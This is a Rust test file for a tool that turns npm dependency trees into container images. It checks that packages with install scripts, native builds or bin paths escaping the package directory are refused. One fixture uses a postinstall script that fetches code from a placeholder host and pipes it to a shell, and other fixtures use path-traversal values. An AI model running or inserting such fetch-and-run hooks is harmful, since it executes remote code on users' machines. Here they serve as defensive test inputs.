//! Trees of npm packages that cannot be put into an image.

use occ_oci::Platform;
use serde_json::{Value, json};

use super::npm_tree::{HOME, entries, for_platform, one, own};
use super::registry::{Package, Registry};
use crate::error::BuildError;
use crate::plan::PlanError;

#[test]
fn packages_with_install_scripts_are_refused_by_name() {
    let scripts = json!({ "scripts": { "postinstall": "curl https://elsewhere.test | sh" } });
    let gyp = || Package::new("two", "1.0.0").file("binding.gyp", "{}");
    let inside = json!({ "name": "hidden", "scripts": { "install": "x" } }).to_string();
    let bundle = Package::new("two", "1.0.0").file("node_modules/hidden/package.json", inside);
    for (package, culprit) in
        [(Package::new("two", "1.0.0").with(scripts), "two"), (gyp(), "two"), (bundle, "hidden")]
    {
        let mut registry = Registry::new();
        registry.publish(&package);
        registry.publish(&own(json!({ "dependencies": { "two": "*" } })));
        match entries(&registry.shop(), Platform::LinuxAmd64) {
            Err(BuildError::Unsuitable { name, reason }) => {
                assert_eq!(name, culprit);
                assert!(reason.contains("script"), "{reason}");
            }
            other => panic!("{other:?}"),
        }
    }
    let mut registry = Registry::new();
    registry.publish(&gyp().with(json!({ "gypfile": false })));
    registry.publish(&own(json!({ "dependencies": { "two": "*" } })));
    assert!(entries(&registry.shop(), Platform::LinuxAmd64).is_ok());
}

#[test]
fn a_reviewed_package_without_its_part_for_the_platform_is_incomplete() {
    let mut registry = Registry::new();
    let scripts = json!({ "scripts": { "postinstall": "node postinstall.js" } });
    registry.publish(&Package::new("@ast-grep/cli", "1.0.0").with(scripts));
    registry.publish(&own(json!({ "dependencies": { "@ast-grep/cli": "*" } })));
    match entries(&registry.shop(), Platform::LinuxAmd64) {
        Err(BuildError::Incomplete { whole, part }) => {
            assert_eq!(whole, "@ast-grep/cli@1.0.0");
            assert_eq!(part, "@ast-grep/cli-linux-x64-gnu/ast-grep");
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn commands_that_are_not_there_or_not_inside_are_refused() {
    let made = |bin: Value| {
        let mut registry = Registry::new();
        registry.publish(&Package::new("one", "1.0.0").with(json!({ "bin": bin })).file("x", ""));
        entries(&registry.shop(), Platform::LinuxAmd64).map(|entries| entries.len())
    };
    let incomplete = |bin| match made(bin) {
        Err(BuildError::Incomplete { whole, part }) => format!("{whole} has no {part}"),
        other => panic!("{other:?}"),
    };
    assert_eq!(incomplete(json!({ "two": "x" })), "one@1.0.0 has no command one");
    assert_eq!(incomplete(json!({})), "one@1.0.0 has no command one");
    assert_eq!(incomplete(json!("missing.js")), "one@1.0.0 has no missing.js");
    for outside in ["../two/x", "/etc/../../x"] {
        let refused = made(json!({ "one": outside }));
        assert!(matches!(refused, Err(BuildError::Unsuitable { .. })), "{refused:?}");
    }
    assert!(made(json!("./x")).is_ok());
}

#[test]
fn one_path_from_two_packages_is_a_conflict() {
    let mut registry = Registry::new();
    registry.publish(&Package::new("deep", "1.0.0"));
    registry.publish(&Package::new("deep", "2.0.0"));
    let two = Package::new("two", "1.0.0").with(json!({ "dependencies": { "deep": "1" } }));
    registry.publish(&two.file("node_modules/deep/package.json", "{}"));
    registry.publish(&own(json!({ "dependencies": { "two": "*", "deep": "2" } })));
    match entries(&registry.shop(), Platform::LinuxAmd64) {
        Err(BuildError::Plan(PlanError::Conflict { path, .. })) => {
            assert_eq!(path, format!("/{HOME}/two/node_modules/deep/package.json"));
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn a_need_that_is_for_another_platform_is_named() {
    let mut registry = Registry::new();
    registry.publish(&for_platform("native", "x64"));
    registry.publish(&own(json!({ "dependencies": { "native": "*" } })));
    match registry.shop().resolve(&one()) {
        Err(BuildError::Unsuitable { name, reason }) => {
            assert_eq!(name, "one");
            assert!(reason.contains("arm64"), "{reason}");
        }
        other => panic!("{other:?}"),
    }
}
